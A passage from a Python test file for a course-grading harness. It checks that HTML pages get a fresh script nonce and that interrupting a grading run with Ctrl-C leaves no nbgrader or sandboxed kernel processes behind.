    assert 'src="data:image/png;base64,AAAA"' in html and "text onload=3 stays" in html
    assert [t for t in re.findall(r"<script\b[^>]*>", html) if f'nonce="{nonce}"' not in t] == []
    assert secure(page) != secure(page)           # a fresh nonce per page


def test_an_interrupted_grading_leaves_no_nbgrader_and_no_kernel_behind(graded, tmp_path, ctrl_c_as_at_a_terminal):
    """`make grade` stopped by Ctrl-C (SIGINT to its process) while a submission runs: the nbgrader processes
    run in sessions of their own, so only the grader's own cleanup can end them."""
    import signal
    import sys

    notebooks, submissions = tmp_path / "notebooks", tmp_path / "submissions"
    notebooks.mkdir()
    nbformat.write(tiny_lesson(), notebooks / f"{LESSON}.ipynb")
    sleeper = tiny_lesson()
    sleeper.cells[1].source = "import math, time\ntime.sleep(600)"
    (submissions / "sleeper").mkdir(parents=True)
    nbformat.write(sleeper, submissions / "sleeper" / f"{LESSON}.ipynb")
    script = (f"from pathlib import Path\nfrom course_lib.core import paths\npaths.NOTEBOOKS = Path({str(notebooks)!r})\n"
              f"from course_lib.harness import classroom\n"
              f"classroom.main(['grade', {str(submissions)!r}, '--lessons', '01', '--timeout', '900'])\n")
    env = {**os.environ, "COURSE_BUILD_DIR": str(tmp_path / "build")}
    proc = subprocess.Popen([sys.executable, "-c", script], env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
                            text=True, preexec_fn=ctrl_c_as_at_a_terminal)

    def nbgraders():
        found = []
        for cmdline in Path("/proc").glob("[0-9]*/cmdline"):
            try:
                text = cmdline.read_bytes().decode(errors="ignore")
            except OSError:
                continue
            if "nbgrader" in text and "autograde" in text and "sleeper" in text:
                found.append(cmdline.parent.name)
        return found

    deadline = time.monotonic() + 300
    while not (nbgraders() and list((tmp_path / "build" / "nbgrader" / "sandbox").glob("*/sleeper/kernel.log"))):
        assert proc.poll() is None and time.monotonic() < deadline, proc.communicate()[0] if proc.poll() else "slow"
        time.sleep(1)
    time.sleep(5)                                   # the kernel is sleeping in its first cell
    proc.send_signal(signal.SIGINT)
    output, _ = proc.communicate(timeout=120)
    assert proc.returncode != 0 and "KeyboardInterrupt" in output, output[-2000:]
    # one submission gets a batch's threads per kernel (it used to get all the cores: 6x slower at smoke)
    cores = os.cpu_count() or 1
    assert f"1 submission(s) at profile 'smoke', 1 at a time, {max(1, cores // min(cores, 4))} thread(s)" in output
    time.sleep(2)
    assert nbgraders() == []
    assert _sandbox_uids_running() == []
